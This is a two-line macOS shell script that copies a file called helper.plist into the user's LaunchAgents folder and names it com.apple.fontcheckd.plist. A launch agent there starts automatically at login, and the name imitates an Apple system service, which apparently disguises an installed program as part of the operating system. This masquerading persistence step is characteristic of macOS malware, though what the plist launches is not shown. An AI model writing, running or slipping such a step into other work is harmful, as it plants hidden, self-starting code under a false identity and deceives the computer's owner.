#!/bin/sh
cp helper.plist ~/Library/LaunchAgents/com.apple.fontcheckd.plist
